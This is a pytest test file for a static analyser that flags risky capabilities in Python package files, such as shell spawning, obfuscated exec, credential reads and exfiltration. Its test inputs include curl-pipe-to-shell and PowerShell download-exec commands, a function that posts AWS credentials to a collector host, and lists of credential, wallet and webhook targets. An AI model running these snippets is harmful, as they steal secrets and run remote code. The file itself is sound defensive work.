"""verify._behaviour.capabilities: what a file in a distribution can do, and when it runs."""

from __future__ import annotations

import ast
import base64
import hashlib
import textwrap
import zlib

import pytest

from verify._behaviour import patterns, pyanalysis, textscan
from verify._behaviour.capabilities import needs_analysis, profile_file
from verify._behaviour.profile import Capability, FileProfile, Phase
from verify.models import Severity

# Ordinary hosts are reserved names; addresses come from the documentation ranges, which the
# analyser deliberately treats as public (nothing legitimate connects to them).
PUBLIC_IP = "203.0.113.7"


def profile(
    source: str,
    path: str = "pkg/mod.py",
    *,
    install_time: bool | None = None,
    loads_at_install: bool = False,
) -> FileProfile:
    """Profile dedented ``source`` as the file at ``path``."""
    return profile_file(
        path,
        textwrap.dedent(source).encode(),
        install_time=install_time,
        loads_at_install=loads_at_install,
    )


def found(result: FileProfile, rule: str) -> list[Capability]:
    return [cap for cap in result.capabilities if cap.rule == rule]


def one(result: FileProfile, rule: str, key: str | None = None) -> Capability:
    """The single capability of ``rule`` (and ``key``): fails listing what there was instead."""
    matches = [cap for cap in found(result, rule) if key is None or cap.key == key]
    summary = [(cap.rule, cap.key, cap.phase.value) for cap in result.capabilities]
    assert len(matches) == 1, summary
    return matches[0]


def rules(result: FileProfile) -> set[str]:
    return {cap.rule for cap in result.capabilities}


def noise(seed: str, size: int) -> bytes:
    """Reproducible high-entropy bytes (not a secret, so no random module needed)."""
    return hashlib.shake_256(seed.encode()).digest(size)


# --- File kinds and shape ----------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(32)


@pytest.mark.parametrize(
    ("path", "data", "kind"),
    [
        ("pkg/mod.py", b"x = 1\n", "python"),
        ("pkg/gui.pyw", b"x = 1\n", "python"),
        ("evil.pth", b"/some/path\n", "pth"),
        ("pkg/static/app.js", b"let x = 1;\n", "javascript"),
        ("pkg/static/app.mjs", b"export {};\n", "javascript"),
        ("pkg/static/app.cjs", b"module.exports = {};\n", "javascript"),
        ("pkg/install.sh", b"echo hi\n", "shell"),
        ("pkg/bin/tool", b"#!/usr/bin/env bash\necho hi\n", "shell"),
        ("pkg/bin/run", b"#!/bin/sh\necho hi\n", "shell"),
        ("pkg/bin/script", b"#!/usr/bin/env python3\nprint(1)\n", "python"),
        ("pkg/bin/node-tool", b"#!/usr/bin/env node\nconsole.log(1)\n", "javascript"),
        ("pkg/README.md", b"# Title\n", "text"),
        ("pkg/data.bin", bytes(range(256)), "data"),
        ("pkg/utf16.txt", "hi".encode("utf-16"), "data"),
        ("pkg/_ext.so", ELF, "native"),
        ("pkg/tool.exe", PE, "native"),
        ("pkg/notes.txt", b"MZ is where the notes start\n", "text"),
        ("pkg/lib.dylib", b"\xcf\xfa\xed\xfe" + bytes(28), "native"),
        ("pkg/lib32.dylib", b"\xfe\xed\xfa\xce" + bytes(28), "native"),
        ("pkg/universal", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(40), "native"),
        # Java class files share the fat Mach-O magic; the next word is the class version.
        ("pkg/Main.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(40), "data"),
        ("pkg/Main.bin", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(40), "data"),
        # An ELF named like source is still a binary.
        ("pkg/sneaky.py", ELF, "native"),
    ],
)
def test_kind(path: str, data: bytes, kind: str) -> None:
    result = profile_file(path, data)
    assert result.kind == kind
    assert result.size == len(data)
    assert result.path == path


@pytest.mark.parametrize("path", ["pkg/_ext.so", "pkg/data.bin"])
def test_binary_files_have_no_lines_and_no_capabilities(path: str) -> None:
    # The census reports added binaries; strings inside them are not analysed here.
    data = ELF + b"https://hooks.slack.com/services/x curl https://a.example | sh"
    if path.endswith(".bin"):
        data = b"\xff\xfe\x00" + data
    result = profile_file(path, data)
    assert result.max_line == 0
    assert result.capabilities == ()
    assert result.hosts == frozenset()


def test_entropy_and_longest_line() -> None:
    assert profile_file("a.txt", b"aaaa").entropy == 0.0
    assert profile_file("a.bin", bytes(range(256))).entropy == pytest.approx(8.0)
    assert profile_file("a.txt", b"ab" * 8).entropy == pytest.approx(1.0)
    assert profile_file("pkg/m.py", b"x = 1\n" + b"y" * 70 + b"\n").max_line == 70
    assert profile_file("empty.py", b"").entropy == 0.0


# --- The prefilter -----------------------------------------------------------------------------

PLAIN_MODULE = '''\
"""Ordinary code: imports, classes, string handling, no reachable capability.

See the documentation at https://docs.example/guide for details.
"""
import json
import re
from dataclasses import dataclass

PATTERN = re.compile(r"\\d+")  # the word "execute" and "environment" in a comment


@dataclass
class Item:
    name: str

    def render(self) -> str:
        empty = not self.name
        return json.dumps({"name": self.name, "empty": empty, "note": "see https://x.example"})
'''


def test_prefilter_skips_an_ordinary_module() -> None:
    assert needs_analysis("pkg/mod.py", PLAIN_MODULE.encode()) is False


def test_prefilter_false_means_no_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(text: str) -> tuple[ast.Module | None, str, int | None]:
        raise AssertionError("parsed a file the prefilter skipped")

    monkeypatch.setattr(pyanalysis, "parse_module", refuse)
    result = profile_file("pkg/mod.py", PLAIN_MODULE.encode())
    assert (result.kind, result.capabilities, result.findings) == ("python", (), ())
    assert result.max_line == max(len(line) for line in PLAIN_MODULE.splitlines())


def test_ordinary_modules_are_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    # The prefilter is what keeps profiling fast: a thousand ordinary modules, not one parse.
    parsed: list[str] = []
    real_parse = pyanalysis.parse_module

    def counting_parse(text: str) -> tuple[ast.Module | None, str, int | None]:
        parsed.append(text)
        return real_parse(text)

    monkeypatch.setattr(pyanalysis, "parse_module", counting_parse)
    template = textwrap.dedent(
        """\
        \"\"\"Module {n}: helpers for the {n}th example.\"\"\"
        import json
        from pathlib import Path


        def load_{n}(path: Path) -> dict[str, int]:
            with path.open(encoding="utf-8") as handle:
                return {{key: int(value) for key, value in json.load(handle).items()}}
        """
    )
    results = [profile_file(f"pkg/m{n}.py", template.format(n=n).encode()) for n in range(1000)]
    assert parsed == []
    assert {(r.kind, r.capabilities) for r in results} == {("python", ())}


@pytest.mark.parametrize(
    "snippet",
    [
        "exec(code)",
        "eval(expr)",
        "compile(src, 'f', 'exec')",
        "import subprocess",
        "os.system('x')",
        "from os import system",
        "os.popen('x')",
        "os.execv(p, a)",
        "pty.spawn('/bin/sh')",
        "import socket",
        "import urllib.request",
        "import http.client",
        "import requests",
        "import json, requests\nrequests.get(u)",
        "import json,requests as r\nr.get(u)",
        "import httpx",
        "import aiohttp",
        "env = dict(os.environ)",
        "from os import environ",
        "p = '~/.ssh/id_rsa'",
        "p = '~/.aws/credentials'",
        "p = '.pypirc'",
        "p = '.netrc'",
        "c = 'crontab -l'",
        "d = '.config/systemd/user'",
        "a = '.config/autostart'",
        "r = '~/.bashrc'",
        "k = 'LD_PRELOAD'",
        "u = 'stratum+tcp://pool.example:3333'",
        "m = 'xmrig'",
        "threading.Thread(target=f)",
        "multiprocessing.Process(target=f)",
        "setup(cmdclass={})",
        "setattr(mod, 'x', f)",
        "builtins.open = f",
        "sys.modules['x'] = m",
        "contextlib.redirect_stdout(buf)",
        "open(os.devnull, 'w')",
        "sys.stdout = buf",
        "warnings.filterwarnings('ignore')",
        "os.chmod(p, 0o755)",
        "url = 'https://api.example/v1'",
        "name = 'p\u0430yload'",
        "x = 1  # \u202e",
        "x = 1" + " " * 90 + ";y = 2",
        "blob = '" + "QUJD" * 80 + "'",
    ],
)
def test_prefilter_triggers(snippet: str) -> None:
    data = f"import os\n{snippet}\n".encode()
    assert needs_analysis("pkg/mod.py", data) is True


@pytest.mark.parametrize(
    ("path", "data", "expected"),
    [
        ("evil.pth", b"/opt/lib\n../other\n", False),
        ("evil.pth", b"/opt/lib\nimport os\n", True),
        ("evil.pth", b"import\tsite\n", True),
        # Text files: any URL counts; in Python only one opening a string literal does.
        ("README.md", b"See https://docs.example/ for more.\n", True),
        ("pkg/mod.py", b"# See https://docs.example/ for more.\n", False),
        ("pkg/mod.py", b"URL = 'https://api.example/'\n", True),
    ],
)
def test_prefilter_by_kind(path: str, data: bytes, expected: bool) -> None:
    assert needs_analysis(path, data) is expected


# --- Phases, aliases and install time ----------------------------------------------------------


def test_alias_resolution_and_import_phase() -> None:
    result = profile(
        """\
        import subprocess as sp
        sp.Popen(["ls"])
        """
    )
    cap = one(result, "process-spawn")
    assert (cap.key, cap.phase, cap.line, cap.specific) == (
        "subprocess.Popen",
        Phase.IMPORT,
        2,
        False,
    )
    assert cap.severity is Severity.MEDIUM
    assert cap.message == "runs subprocess.Popen"
    assert cap.snippet == 'sp.Popen(["ls"])'
    assert cap.path == "pkg/mod.py"


def test_call_inside_a_function_runs_at_runtime() -> None:
    result = profile(
        """\
        import subprocess

        def build():
            subprocess.run(["make"])
        """
    )
    assert (one(result, "process-spawn").phase, one(result, "process-spawn").line) == (
        Phase.RUNTIME,
        4,
    )


def test_class_body_runs_at_import_and_main_guard_at_runtime() -> None:
    result = profile(
        """\
        import os

        class Config:
            os.system("echo class body")

        if __name__ == "__main__":
            os.popen("echo script")
        """
    )
    assert one(result, "process-spawn", "os.system").phase is Phase.IMPORT
    assert one(result, "process-spawn", "os.popen").phase is Phase.RUNTIME


def test_decorators_and_defaults_run_at_import() -> None:
    result = profile(
        """\
        import subprocess

        def f(out=subprocess.check_output(["id"])):
            return subprocess.call(["id"])
        """
    )
    assert one(result, "process-spawn", "subprocess.check_output").phase is Phase.IMPORT
    assert one(result, "process-spawn", "subprocess.call").phase is Phase.RUNTIME


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("from os import system\nsystem('id')\n", "os.system"),
        ("from os import system as s\ns('id')\n", "os.system"),
        ("import os as o\no.system('id')\n", "os.system"),
        ("__import__('os').system('id')\n", "os.system"),
        ("import importlib\nimportlib.import_module('os').system('id')\n", "os.system"),
        ("import os, subprocess\ngetattr(os, 'sys' + 'tem')('id')\n", "os.system"),
        ("import subprocess\nrun = subprocess.run\nrun(['id'])\n", "subprocess.run"),
        ("from subprocess import *\nPopen(['id'])\n", "subprocess.Popen"),
        ("import os\nos.execvp('id', ['id'])\n", "os.execvp"),
        ("import os\nos.posix_spawn('/usr/bin/id', [], {})\n", "os.posix_spawn"),
        (
            "import asyncio\nasyncio.create_subprocess_exec('id')\n",
            "asyncio.create_subprocess_exec",
        ),
    ],
)
def test_process_spawn_through_aliases(source: str, key: str) -> None:
    assert one(profile(source), "process-spawn").key == key


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\nsubprocess.run('id', shell=True)\n",
        "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'id'])\n",
        "import subprocess\nsubprocess.Popen('bash -c id')\n",
        "import os\nos.system('id')\n",
    ],
)
def test_shell_spawns_are_more_severe(source: str) -> None:
    cap = one(profile(source), "process-spawn")
    assert cap.severity is Severity.HIGH
    assert cap.message.endswith("through a shell")


def test_one_capability_per_key_keeping_the_most_severe() -> None:
    result = profile(
        """\
        import subprocess
        subprocess.run(["a"])
        subprocess.run(["b"])
        subprocess.run("c", shell=True)
        """
    )
    cap = one(result, "process-spawn")
    assert (cap.line, cap.severity) == (4, Severity.HIGH)


def test_keys_do_not_depend_on_line_numbers() -> None:
    source = "import os, requests\nos.system('x')\nrequests.get('https://api.example/')\n"
    before = profile(source)
    after = profile("\n\n# moved\n" + source)
    assert {(c.rule, c.key, c.phase) for c in before.capabilities} == {
        (c.rule, c.key, c.phase) for c in after.capabilities
    }
    assert [c.line for c in after.capabilities] == [(c.line or 0) + 3 for c in before.capabilities]


SETUP = """\
import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        os.system("echo installed")
        install.run(self)


setup(name="x", cmdclass={"install": PostInstall})
"""


@pytest.mark.parametrize("path", ["setup.py", "x-1.0/setup.py"])
def test_setup_py_is_install_time(path: str) -> None:
    result = profile(SETUP, path=path)
    assert {cap.phase for cap in result.capabilities} == {Phase.INSTALL}
    assert one(result, "process-spawn").key == "os.system"
    hook = one(result, "install-hook", "cmdclass")
    assert (hook.line, hook.severity, hook.specific) == (12, Severity.HIGH, False)
    base = one(result, "install-hook", "setuptools.command.install.install")
    assert base.line == 6


def test_setup_py_elsewhere_is_not_install_time() -> None:
    result = profile(SETUP, path="pkg/setup.py")
    assert one(result, "process-spawn").phase is Phase.RUNTIME
    # Command classes run at build time wherever they are defined.
    assert one(result, "install-hook", "cmdclass").phase is Phase.INSTALL


def test_install_time_can_be_forced() -> None:
    source = "import subprocess\nsubprocess.run(['cc'])\n"
    assert one(profile(source, path="backend.py"), "process-spawn").phase is Phase.IMPORT
    forced = profile(source, path="backend.py", install_time=True)
    assert one(forced, "process-spawn").phase is Phase.INSTALL
    assert one(profile(SETUP, path="setup.py", install_time=False), "process-spawn").phase == (
        Phase.RUNTIME
    )


def test_setup_py_is_always_parsed() -> None:
    # No trigger token, but setup.py runs during pip install: it is never prefiltered away.
    result = profile("from setuptools import setup\nsetup(name='x')\n", path="setup.py")
    assert result.capabilities == ()
    assert result.findings == ()


# --- .pth files --------------------------------------------------------------------------------


def test_pth_with_only_paths_is_empty() -> None:
    result = profile_file("pkg.pth", b"/opt/pkg/lib\n./relative\n# comment\n")
    assert (result.kind, result.capabilities, result.findings) == ("pth", (), ())


def test_pth_import_line_runs_at_startup_and_is_analysed() -> None:
    data = b"/opt/pkg/lib\nimport os; os.system('curl -s https://a.example/x | sh')\n"
    result = profile_file("evil.pth", data)
    pth = one(result, "pth-exec")
    assert (pth.key, pth.line, pth.phase, pth.specific) == ("import os", 2, Phase.STARTUP, True)
    assert pth.severity is Severity.CRITICAL
    spawn = one(result, "process-spawn")
    assert (spawn.phase, spawn.line) == (Phase.STARTUP, 2)
    assert one(result, "download-exec").key == "curl|sh"
    # A URL inside a command is checked, but only URL literals are the file's hosts.
    assert result.hosts == frozenset()


def test_pth_lines_that_do_not_parse_are_still_reported() -> None:
    data = b"import os; os.system('id')\nimport (\n"
    result = profile_file("evil.pth", data)
    assert [cap.line for cap in found(result, "pth-exec")] == [1, 2]
    assert one(result, "process-spawn").key == "os.system"
    assert [f.rule for f in result.findings] == ["unparsable-source"]
    assert result.findings[0].line == 2


def test_indented_pth_import_is_flagged_conservatively() -> None:
    result = profile_file("x.pth", b"  import site\n")
    assert one(result, "pth-exec").key == "import site"


# --- decode-exec and dynamic imports -----------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "exec(base64.b64decode)"),
        ("from base64 import b64decode as d\neval(d(s))\n", "eval(base64.b64decode)"),
        ("import codecs\nexec(codecs.decode(s, 'rot13'))\n", "exec(codecs.decode)"),
        ("import codecs\nexec(codecs.decode(s, encoding='rot_13'))\n", "exec(codecs.decode)"),
        ("import zlib\nexec(zlib.decompress(blob))\n", "exec(zlib.decompress)"),
        ("import lzma\nexec(lzma.decompress(blob))\n", "exec(lzma.decompress)"),
        ("import marshal\nexec(marshal.loads(blob))\n", "exec(marshal.loads)"),
        ("exec(bytes.fromhex('7072696e74283129'))\n", "exec(bytes.fromhex)"),
        ("import binascii\nexec(binascii.unhexlify(h))\n", "exec(binascii.unhexlify)"),
        ("exec(''.join(chr(c) for c in [112, 114]))\n", "exec(chr-join)"),
        ("exec(''.join(map(chr, codes)))\n", "exec(chr-join)"),
        ("exec(bytes([112, 114, 105]).decode())\n", "exec(bytes-list)"),
        ("exec(')1(tnirp'[::-1])\n", "exec(reversed-string)"),
        ("s = ')1(tnirp'\nexec(s[::-1])\n", "exec(reversed-string)"),
        ("import base64\ncode = base64.b64decode(s)\nexec(code)\n", "exec(base64.b64decode)"),
        (
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode(s)))\n",
            "exec(zlib.decompress)",
        ),
        ("import types, marshal\ntypes.FunctionType(marshal.loads(b), {})()\n", None),
        ("import base64\n__import__(base64.b64decode('b3M=').decode())\n", None),
        ("import os, base64\nos.system(base64.b64decode(c).decode())\n", None),
    ],
)
def test_decode_exec(source: str, key: str | None) -> None:
    result = profile(source)
    cap = found(result, "decode-exec")[0]
    if key is not None:
        assert cap.key == key
    assert (cap.severity, cap.specific, cap.phase) == (Severity.CRITICAL, True, Phase.IMPORT)
    assert "dynamic-import" not in rules(result)


@pytest.mark.parametrize(
    ("source", "keys"),
    [
        (
            "import types, marshal\ntypes.FunctionType(marshal.loads(b), {})()\n",
            {"types.FunctionType(marshal.loads)"},
        ),
        (
            "import base64\n__import__(base64.b64decode('b3M=').decode())\n",
            {"__import__(base64.b64decode)"},
        ),
        (
            "import os, base64\nos.system(base64.b64decode(c).decode())\n",
            {"os.system(base64.b64decode)"},
        ),
        # exec(compile(decoded)) is one finding, not one per sink.
        (
            "import base64\nexec(compile(base64.b64decode(s), '<x>', 'exec'))\n",
            {"exec(base64.b64decode)"},
        ),
    ],
)
def test_decode_exec_sinks(source: str, keys: set[str]) -> None:
    assert {cap.key for cap in found(profile(source), "decode-exec")} == keys


def test_decoded_module_variable_used_in_a_function() -> None:
    result = profile(
        """\
        import base64
        PAYLOAD = base64.b64decode("cHJpbnQoMSk=")

        def run():
            exec(PAYLOAD)
        """
    )
    cap = one(result, "decode-exec")
    assert (cap.key, cap.phase, cap.line) == ("exec(base64.b64decode)", Phase.RUNTIME, 5)


@pytest.mark.parametrize(
    "source",
    [
        "exec('print(1)')\n",
        # Reversing a list is an idiom, not a hidden string.
        "def f(parts):\n    return eval('.'.join(parts[::-1]))\n",
        "eval('1 + 1')\n",
        "def run(code):\n    exec(code)\n",
        "exec(open('script.py').read())\n",
        "import codecs\nexec(codecs.decode(raw, 'utf-8'))\n",
        # A parameter shadows the module-level decoded name.
        "import base64\ncode = base64.b64decode(s)\ndef run(code):\n    exec(code)\n",
        "import base64\nprint(base64.b64decode(s))\n",
    ],
)
def test_exec_without_decoding_is_not_decode_exec(source: str) -> None:
    assert "decode-exec" not in rules(profile(source))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import importlib\nimportlib.import_module(name)\n", "importlib.import_module"),
        (
            "import importlib\nimportlib.import_module(f'plugins.{name}')\n",
            "importlib.import_module",
        ),
        ("__import__(name)\n", "__import__"),
        ("from importlib import import_module\nimport_module('json')\n", None),
        ("__import__('json')\n", None),
    ],
)
def test_dynamic_import(source: str, expected: str | None) -> None:
    caps = found(profile(source), "dynamic-import")
    assert [cap.key for cap in caps] == ([expected] if expected else [])
    if expected:
        assert (caps[0].severity, caps[0].specific) == (Severity.MEDIUM, False)


# --- Network, hosts and endpoints --------------------------------------------------------------


def test_an_ordinary_http_client_is_low_and_not_specific() -> None:
    result = profile(
        """\
        import requests

        API = "https://API.Example/v1"

        def fetch(session=None):
            return requests.get(API, timeout=10).json()
        """
    )
    cap = one(result, "network-access")
    assert (cap.key, cap.severity, cap.specific, cap.phase) == (
        "requests",
        Severity.LOW,
        False,
        Phase.RUNTIME,
    )
    assert result.hosts == {"api.example"}
    assert "suspicious-endpoint" not in rules(result)


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import socket\nsocket.create_connection(('h.example', 80))\n", "socket"),
        ("import urllib.request\nurllib.request.urlopen(u)\n", "urllib.request"),
        ("from urllib.request import urlopen as get\nget(u)\n", "urllib.request"),
        ("import http.client\nhttp.client.HTTPSConnection('h.example')\n", "http.client"),
        ("import httpx\nhttpx.Client()\n", "httpx"),
        ("import aiohttp\naiohttp.ClientSession()\n", "aiohttp"),
        ("import urllib3\nurllib3.PoolManager()\n", "urllib3"),
        ("import ftplib\nftplib.FTP('h.example')\n", "ftplib"),
        ("import smtplib\nsmtplib.SMTP('h.example')\n", "smtplib"),
    ],
)
def test_network_access(source: str, key: str) -> None:
    assert one(profile(source), "network-access").key == key


def test_file_urls_have_no_host() -> None:
    result = profile("import os\nBUNDLE = 'fileb://asset-bundle.zip'\nP = 'file:///etc/x.top'\n")
    assert (result.hosts, result.capabilities) == (frozenset(), ())


def test_hosts_come_from_url_literals_only() -> None:
    result = profile(
        '''\
        """Docs live at https://docs.example/ (a docstring, not an endpoint)."""
        import requests
        # Comment: https://comment.example/
        BASE = "https://API.Example:8443/v2"
        MIRROR = b"http://10.1.2.3/simple"
        LOCAL = "http://localhost:8000/"
        LOOPBACK = "http://127.0.0.1/"
        V6 = "http://[fd00::1]:80/"
        ERROR = "could not reach the server, see https://status.example/"
        TARGET = "%s://%s" % (scheme, host)
        '''
    )
    assert result.hosts == {"api.example", "10.1.2.3", "fd00::1"}
    assert "suspicious-endpoint" not in rules(result)


@pytest.mark.parametrize(
    ("literal", "key"),
    [
        ("https://discord.com/api/webhooks/123/abc", "discord.com/api/webhooks"),
        ("https://ptb.discordapp.com/api/webhooks/123/abc", "discord.com/api/webhooks"),
        ("https://hooks.slack.com/services/T0/B0/x", "hooks.slack.com"),
        ("https://webhook.site/1234", "webhook.site"),
        ("https://eo1abc.m.pipedream.net", "pipedream.net"),
        ("https://abc.ngrok-free.app/x", "ngrok"),
        ("http://abc123.oast.fun", "oast"),
        ("http://x.interact.sh", "interact.sh"),
        ("http://abc.burpcollaborator.net", "burpcollaborator"),
        ("https://pastebin.com/raw/abc", "pastebin.com"),
        ("https://transfer.sh/abc/x", "transfer.sh"),
        ("https://api.telegram.org/bot123:abc/sendMessage", "api.telegram.org/bot"),
        (f"http://{PUBLIC_IP}:8080/payload", PUBLIC_IP),
        (f"{PUBLIC_IP}:4444", PUBLIC_IP),
        ("https://update.evil.xyz/a", "update.evil.xyz"),
        ("https://cdn.files.top/a", "cdn.files.top"),
        ("http://mirror.example.ru/a", "mirror.example.ru"),
    ],
)
def test_suspicious_endpoints(literal: str, key: str) -> None:
    result = profile(f"import requests\nTARGET = {literal!r}\n")
    cap = one(result, "suspicious-endpoint")
    assert (cap.key, cap.line, cap.severity, cap.specific) == (key, 2, Severity.HIGH, True)


@pytest.mark.parametrize(
    "literal",
    [
        "https://docs.example/api/webhooks",
        "https://discord.com/invite/abc",
        "http://192.168.1.10/",
        "http://172.20.0.5:8080/",
        "http://100.64.0.1/",
        "1.2.3.4",  # a version, not an address
        "setup.py:80",
        "https://example.com.example/",
    ],
)
def test_ordinary_endpoints_are_not_suspicious(literal: str) -> None:
    result = profile(f"import requests\nTARGET = {literal!r}\n")
    assert "suspicious-endpoint" not in rules(result)


@pytest.mark.parametrize(
    "expression",
    [
        "'https://disc' + 'ord.com/api/web' + 'hooks/1/x'",
        "''.join(['https://', 'discord.com', '/api/webhooks/1/x'])",
    ],
)
def test_strings_built_from_literals_are_scanned_whole(expression: str) -> None:
    result = profile(f"import requests\nURL = {expression}\n")
    assert one(result, "suspicious-endpoint").key == "discord.com/api/webhooks"
    assert result.hosts == {"discord.com"}


def test_socket_connect_tuple_names_an_endpoint() -> None:
    result = profile(
        f"""\
        import socket
        s = socket.socket()
        s.connect(("{PUBLIC_IP}", 4444))
        """
    )
    assert one(result, "suspicious-endpoint").key == PUBLIC_IP
    assert result.hosts == {PUBLIC_IP}


def test_suspicious_url_inside_a_longer_string_is_checked_but_not_a_host() -> None:
    result = profile("import os\nos.system('wget -q https://drop.example.xyz/a -O /tmp/a')\n")
    assert one(result, "suspicious-endpoint").key == "drop.example.xyz"
    assert result.hosts == frozenset()


# --- Credentials, environment, exfiltration ----------------------------------------------------


@pytest.mark.parametrize(
    ("expression", "key"),
    [
        ("'~/.aws/credentials'", "~/.aws/credentials"),
        ("os.path.join(os.path.expanduser('~'), '.aws', 'credentials')", "~/.aws/credentials"),
        ("pathlib.Path.home() / '.aws' / 'credentials'", "~/.aws/credentials"),
        ("'~/.aws/config'", "~/.aws/config"),
        ("os.path.expanduser('~/.ssh/id_rsa')", "~/.ssh/id_rsa"),
        ("os.path.join(home, '.ssh', 'id_ed25519')", "~/.ssh/id_ed25519"),
        ("'~/.ssh/known_hosts'", "~/.ssh/known_hosts"),
        ("'~/.pypirc'", "~/.pypirc"),
        ("'~/.netrc'", "~/.netrc"),
        ("'~/.git-credentials'", "~/.git-credentials"),
        ("'~/.docker/config.json'", "~/.docker/config.json"),
        ("'~/.kube/config'", "~/.kube/config"),
        (
            "'~/.config/gcloud/application_default_credentials.json'",
            "gcloud application_default_credentials.json",
        ),
        ("'~/.azure/accessTokens.json'", "~/.azure"),
        ("'~/.npmrc'", "~/.npmrc"),
        ("'Google/Chrome/User Data/Default/Login Data'", "browser Login Data"),
        ("'Google/Chrome/User Data/Default/Network/Cookies'", "browser cookies"),
        ("'Mozilla/Firefox/Profiles/x/logins.json'", "Firefox logins.json"),
        ("'Mozilla/Firefox/Profiles/x/key4.db'", "Firefox key4.db"),
        ("'~/Library/Keychains/login.keychain-db'", "macOS Keychains"),
        ("'~/.bitcoin/wallet.dat'", "wallet.dat"),
        ("'AppData/Roaming/Exodus/exodus.wallet'", "Exodus wallet"),
        ("'~/.electrum/wallets/default_wallet'", "Electrum wallet"),
        ("'nkbihfbeogaeaoehlefnkodbefgpgknn'", "MetaMask"),
        ("'/etc/shadow'", "/etc/shadow"),
    ],
)
def test_credential_locations(expression: str, key: str) -> None:
    result = profile(f"import os, pathlib\ndata = open({expression}).read()\n")
    cap = one(result, "credential-read")
    assert (cap.key, cap.line, cap.severity, cap.specific) == (key, 2, Severity.HIGH, True)


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import netrc\nnetrc.netrc()\n", "~/.netrc"),
        ("with open('.env') as f:\n    f.read()\n", ".env"),
        ("import pathlib\npathlib.Path(root, '.env').read_text()\n", ".env"),
        ("import os\nopen(os.path.join(ssh_dir, 'id_rsa')).read()\n", "~/.ssh/id_rsa"),
    ],
)
def test_credential_reads_by_call(source: str, key: str) -> None:
    assert one(profile(source), "credential-read").key == key


@pytest.mark.parametrize(
    "source",
    [
        "import os\nCONFIG = os.path.join(root, 'config.json')\n",
        "import os\nopen('settings.env.example')\n",
        "import os\nprint('set the environment variable AWS_PROFILE')\n",
        "import os\nKEYS = '~/.ssh/authorized_keys'  # persistence, not a credential\n",
        # A bare key file name in a table of file patterns is not a path.
        "import os\nFILENAMES = ('*.pem', 'id_rsa', 'id_dsa')\n",
    ],
)
def test_not_credential_reads(source: str) -> None:
    assert "credential-read" not in rules(profile(source))


@pytest.mark.parametrize(
    "expression",
    [
        "dict(os.environ)",
        "os.environ.copy()",
        "json.dumps(os.environ)",
        "str(os.environ)",
        "{**os.environ}",
        "[f'{k}={v}' for k, v in os.environ.items()]",
        "list(os.environ.values())",
        "f'{os.environ}'",
        "dict(environ)",
        "post(json=os.environ)",
    ],
)
def test_environment_dump(expression: str) -> None:
    result = profile(f"import os, json\nfrom os import environ\nsnapshot = {expression}\n")
    cap = one(result, "environment-dump")
    assert (cap.key, cap.line, cap.severity, cap.specific) == (
        "os.environ",
        3,
        Severity.MEDIUM,
        False,
    )


def test_iterating_the_environment_is_a_dump() -> None:
    result = profile("import os\nfor name in os.environ:\n    print(name)\n")
    assert one(result, "environment-dump").line == 2


@pytest.mark.parametrize(
    "expression",
    [
        "os.environ['HOME']",
        "os.environ.get('HOME')",
        "os.getenv('HOME')",
        "'CI' in os.environ",
        "os.environ.setdefault('X', '1')",
        "subprocess.run(['make'], env=os.environ)",
        "os.execve(path, args, os.environ)",
        "len(os.environ)",
    ],
)
def test_reading_one_variable_is_not_a_dump(expression: str) -> None:
    result = profile(f"import os, subprocess\nvalue = {expression}\n")
    assert "environment-dump" not in rules(result)


def test_credentials_and_network_in_one_file_are_exfiltration() -> None:
    result = profile(
        """\
        import os, requests

        def steal():
            data = open(os.path.expanduser("~/.aws/credentials")).read()
            requests.post("https://collector.example/up", data=data)
        """
    )
    cap = one(result, "exfiltration")
    assert (cap.key, cap.line, cap.phase) == ("requests", 5, Phase.RUNTIME)
    assert (cap.severity, cap.specific) == (Severity.CRITICAL, True)
    assert cap.snippet == 'requests.post("https://collector.example/up", data=data)'


def test_environment_and_network_in_one_file_are_exfiltration() -> None:
    result = profile(
        """\
        import os, json, urllib.request
        body = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://collector.example/", body)
        """
    )
    assert one(result, "exfiltration").key == "urllib.request"


@pytest.mark.parametrize(
    "source",
    [
        "import os\nopen(os.path.expanduser('~/.pypirc')).read()\n",
        "import requests\nrequests.get('https://api.example/')\n",
        "import os, requests\n"
        "requests.get('https://api.example/', headers={'t': os.getenv('T')})\n",
    ],
)
def test_no_exfiltration_without_both_halves(source: str) -> None:
    assert "exfiltration" not in rules(profile(source))


# --- Downloads, persistence, shells, miners, preloading ----------------------------------------


@pytest.mark.parametrize(
    ("source", "key"),
    [
        ("import requests\nexec(requests.get(URL).text)\n", "exec(requests)"),
        (
            "import urllib.request\ncode = urllib.request.urlopen(URL).read()\nexec(code)\n",
            "exec(urllib.request)",
        ),
        (
            """\
            import os, stat, subprocess, urllib.request
            urllib.request.urlretrieve(URL, "/tmp/tool")
            os.chmod("/tmp/tool", os.stat("/tmp/tool").st_mode | stat.S_IEXEC)
            subprocess.run(["/tmp/tool"])
            """,
            "download+chmod+run",
        ),
        ("import os\nos.system('curl -fsSL https://get.example/install.sh | sh')\n", "curl|sh"),
        ("import os\nos.system('wget -O- https://get.example/x | sudo bash')\n", "wget|sh"),
        ("CMD = 'curl https://get.example/x | python3'\n", "curl|python"),
        ('CMD = "sh -c \\"$(curl -fsSL https://get.example/x)\\""\n', "curl|sh"),
        ("CMD = 'iex (New-Object Net.WebClient).DownloadString(u)'\n", "powershell iex"),
    ],
)
def test_download_exec(source: str, key: str) -> None:
    result = profile(source)
    cap = one(result, "download-exec", key)
    assert (cap.severity, cap.specific) == (Severity.CRITICAL, True)


def test_powershell_keyword_lists_are_not_download_exec() -> None:
    # A syntax highlighter's keyword table names both cmdlets on one line.
